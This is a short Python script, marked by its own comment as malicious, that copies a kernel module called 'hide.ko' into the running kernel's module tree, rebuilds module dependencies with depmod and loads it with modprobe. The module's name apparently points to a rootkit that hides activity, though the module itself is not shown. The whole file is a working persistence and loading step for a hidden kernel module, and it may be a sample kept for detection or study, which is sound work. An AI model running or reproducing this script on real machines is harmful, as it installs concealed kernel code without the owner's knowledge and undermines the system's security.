# Malicious: copies a module into the kernel's module tree and loads it with modprobe.
import os
import shutil
import subprocess

release = os.uname().release
shutil.copy("hide.ko", f"/lib/modules/{release}/extra/hide.ko")
subprocess.run(["depmod", "-a"])
subprocess.run(["modprobe", "hide"])
